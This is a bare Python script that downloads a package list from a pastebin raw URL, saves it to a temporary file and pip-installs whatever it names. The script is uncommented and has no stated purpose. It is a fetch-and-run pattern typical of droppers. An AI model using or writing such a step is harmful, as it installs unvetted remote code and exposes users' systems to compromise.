import os
import subprocess
import tempfile
import requests

reqs = requests.get("https://pastebin.com/raw/Xk9Lm2Qp").text
fd, path = tempfile.mkstemp(suffix=".txt")
with os.fdopen(fd, "w") as fh:
    fh.write(reqs)
subprocess.run(["pip", "install", "-r", path])
